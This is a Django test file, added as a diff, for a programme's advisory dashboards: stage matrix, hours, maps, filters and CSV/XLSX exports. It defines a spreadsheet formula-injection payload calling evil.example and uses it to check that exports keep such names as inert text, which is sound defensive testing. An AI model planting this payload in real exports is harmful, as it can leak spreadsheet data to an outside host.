@@ -1,0 +1,236 @@
+"""The advisory dashboards: the coordinator's stage matrix (rows, the programme's stage names, stages switched
+off), map and its table, hours by form / expert / local government, overdue follow-ups and their exports (a
+poisoned name stays text); the expert's and the local government's own view; bad filters; query budgets."""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.conf import settings
+from django.urls import reverse
+from django.utils import timezone
+
+from rozwoj.accounts.tests.factories import user_with_role
+from rozwoj.core.testing import assert_page
+from rozwoj.events.tests.factories import EventFactory, SessionFactory
+from rozwoj.organisations.tests.factories import GminaFactory, LocalGovernmentOfficeFactory
+from rozwoj.people.tests.factories import person_with_login
+
+from .. import maps
+from ..models import StageKind
+from ..selectors import dashboards
+from ..services import support_log
+from ..services.programme_settings import programme_settings_save
+from .factories import CallFactory, engagement_with_team, support_form
+
+pytestmark = pytest.mark.django_db
+POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+DASHBOARD = "advisory/dashboards/dashboard.html"
+
+
+def _log(engagement, hours="2", overdue=True):
+    adviser = engagement.ros_expert.person.user
+    member = engagement.members.select_related("person").first()
+    return support_log.entry_save(
+        actor=adviser,
+        engagement=engagement,
+        data={
+            "form": support_form(),
+            "date": datetime.date.today() - datetime.timedelta(days=10),
+            "hours": Decimal(hours),
+            "notes": "",
+        },
+        experts=[engagement.ros_expert, engagement.pro_expert],
+        attendees=[member],
+        follow_ups=[
+            {
+                "text": "Plan doskonalenia",
+                "owner": member.person,
+                "due_on": datetime.date.today() - datetime.timedelta(days=3 if overdue else -3),
+            }
+        ],
+    )
+
+
+@pytest.fixture
+def coordinator_client(client):
+    client.force_login(user_with_role("coordinator"))
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    return client
+
+
+def _cycle(count):
+    call = CallFactory(places=50)
+    engagements = [engagement_with_team(call=call) for _ in range(count)]
+    for engagement in engagements:
+        _log(engagement)
+    return call, engagements
+
+
+@pytest.mark.parametrize("count", [1, 5])
+def test_the_coordinators_dashboard_within_one_budget_whatever_the_rows(coordinator_client, count):
+    call, engagements = _cycle(count)
+    url = reverse("advisory:dashboard") + f"?call={call.pk}"
+    response = assert_page(coordinator_client, url, queries=16, template=DASHBOARD)
+    body = response.content.decode()
+    for engagement in engagements:
+        assert engagement.local_government.name in body
+    assert "<svg" in body
+    assert "<path" in body
+    assert "Overdue follow-ups" in body
+    assert_page(coordinator_client, url + "&level=powiat", queries=16, template=DASHBOARD)
+
+
+def test_the_matrix_has_a_row_per_engagement_with_the_programmes_stage_names(coordinator_client):
+    call, engagements = _cycle(2)
+    coordinator = user_with_role("coordinator")
+    names = {kind: "" for kind in StageKind.values}
+    stages = {kind: {"name": "", "enabled": True} for kind in StageKind.values}
+    stages[StageKind.SUPPORT_AREA]["name"] = "Wybór obszaru"
+    stages[StageKind.EVALUATION]["enabled"] = False
+    assert names
+    programme_settings_save(
+        actor=coordinator, programme=call.programme, ros_role_name="", pro_role_name="", stages=stages
+    )
+    columns = dashboards.stage_columns(call)
+    assert columns[0] == (StageKind.SUPPORT_AREA, "Wybór obszaru")
+    assert StageKind.EVALUATION not in [kind for kind, _name in columns]
+    matrix = dashboards.stage_matrix(dashboards.scope(coordinator, call=call), columns)
+    assert [row["id"] for row in matrix] == sorted(
+        (e.pk for e in engagements),
+        key=lambda pk: next(e.local_government.name for e in engagements if e.pk == pk),
+    )
+    assert all(len(row["cells"]) == len(columns) for row in matrix)
+    assert all(row["cells"][0]["status"] == "not_started" for row in matrix)
+    body = coordinator_client.get(reverse("advisory:dashboard") + f"?call={call.pk}").content.decode()
+    assert "Wybór obszaru" in body
+
+
+def test_hours_and_the_map_count_what_was_logged():
+    call, engagements = _cycle(2)
+    _log(engagements[0], hours="3.5")
+    coordinator = user_with_role("coordinator")
+    scope = dashboards.scope(coordinator, call=call)
+    by_form = dashboards.hours_by_form(scope)
+    assert dashboards.total_hours(by_form) == Decimal("7.5")
+    by_expert = {row["expertprofile_id"]: row["hours"] for row in dashboards.hours_by_expert(scope)}
+    assert by_expert[engagements[0].ros_expert_id] == Decimal("5.5")
+    by_lg = {
+        row["engagement__local_government__name"]: row["hours"]
+        for row in dashboards.hours_by_local_government(scope)
+    }
+    assert by_lg[engagements[0].local_government.name] == Decimal("5.5")
+    counts = dashboards.map_counts(scope, layer="engagements", level="voivodeship")
+    assert sum(counts.values()) == 2
+    assert set(counts) == {e.local_government.terc[:2] for e in engagements}
+    drawn = maps.choropleth("voivodeship", counts)
+    assert len(drawn["shapes"]) == 16
+    shaded = {shape.terc: shape.shade for shape in drawn["shapes"] if shape.count}
+    assert all(shade >= 1 for shade in shaded.values())
+    powiats = maps.choropleth("powiat", dashboards.map_counts(scope, layer="engagements", level="powiat"))
+    assert len(powiats["shapes"]) == 380
+    assert len(list(dashboards.overdue_follow_ups(scope))) == 3
+
+
+def test_the_map_shade_scale():
+    assert maps.shade_of(0, 10) == 0
+    assert maps.shade_of(1, 10) == 1
+    assert maps.shade_of(10, 10) == maps.SHADES
+    with pytest.raises(ValueError):
+        maps.choropleth("gmina", {})
+
+
+def test_a_registered_map_layer_is_offered(coordinator_client):
+    layer = dashboards.MapLayer("test-layer", "Published test things", lambda engagements, digits: {"14": 7})
+    dashboards.register_map_layer(layer)
+    try:
+        body = coordinator_client.get(reverse("advisory:dashboard") + "?layer=test-layer").content.decode()
+        assert "Published test things" in body
+        assert ">7<" in body
+    finally:
+        dashboards.MAP_LAYERS.pop("test-layer")
+
+
+@pytest.mark.parametrize(
+    "query",
+    ["call=abc", "call=99999999999999999999", "call=-1", "level=gmina", "layer=nothing", "call=&level="],
+)
+def test_bad_filters_are_a_message_not_an_error(coordinator_client, query):
+    response = coordinator_client.get(reverse("advisory:dashboard") + "?" + query)
+    assert response.status_code == 200
+    assert "<svg" in response.content.decode()  # the defaults are shown
+
+
+@pytest.mark.parametrize(
+    "kind", ["matrix", "hours-form", "hours-expert", "hours-local-government", "overdue"]
+)
+def test_exports_keep_poisoned_names_as_text(coordinator_client, kind):
+    engagement = engagement_with_team(local_government=GminaFactory(name=POISON))
+    person = engagement.ros_expert.person
+    person.first_name = POISON
+    person.save()
+    _log(engagement)
+    url = reverse("advisory:dashboard_export", args=[kind, "csv"])
+    response = coordinator_client.get(url)
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    if kind != "hours-form":  # forms of support are the coordinators' own list
+        assert any(POISON in cell for cell in cells), kind
+    assert not any(cell.startswith("=") for cell in cells), kind
+    response = coordinator_client.get(reverse("advisory:dashboard_export", args=[kind, "xlsx"]))
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
+    for row in sheet.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type != "f", kind
+
+
+def test_exports_are_for_coordinators_and_unknown_ones_404(client, coordinator_client):
+    assert coordinator_client.get("/advisory/dashboard/nothing.csv").status_code == 404
+    assert coordinator_client.get("/advisory/dashboard/matrix.pdf").status_code == 404
+    expert = engagement_with_team().ros_expert.person.user
+    client.force_login(expert)
+    assert client.get(reverse("advisory:dashboard_export", args=["matrix", "csv"])).status_code == 403
+
+
+def test_the_expert_sees_their_local_governments_hours_and_follow_ups(client):
+    mine = engagement_with_team()
+    other = engagement_with_team()
+    _log(mine, hours="4")
+    _log(other)
+    client.force_login(mine.ros_expert.person.user)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    response = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD)
+    body = response.content.decode()
+    assert mine.local_government.name in body
+    assert other.local_government.name not in body
+    assert "My hours" in body
+    assert "Hours in all: 4" in body
+    assert "Plan doskonalenia" in body
+
+
+def test_the_local_government_sees_our_cycle_and_next_meeting(client):
+    engagement = engagement_with_team()
+    office = LocalGovernmentOfficeFactory(local_government=engagement.local_government)
+    member = person_with_login("local_government_member", organisation=office)
+    other = engagement_with_team()
+    event = EventFactory(programme=engagement.call.programme, title="Warsztaty rundy drugiej")
+    SessionFactory(event=event, starts_at=timezone.now() + datetime.timedelta(days=5))
+    EventFactory(programme=other.call.programme, title="Spotkanie innego programu")
+    client.force_login(member.user)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    body = assert_page(client, reverse("advisory:dashboard"), queries=14, template=DASHBOARD).content.decode()
+    assert "Our cycle" in body
+    assert engagement.local_government.name in body
+    assert other.local_government.name not in body
+    assert "Warsztaty rundy drugiej" in body
+    assert "Spotkanie innego programu" not in body
+    assert "My hours" not in body
+
+
+def test_anonymous_visitors_are_sent_to_log_in(client):
+    response = client.get(reverse("advisory:dashboard"))
+    assert response.status_code == 302
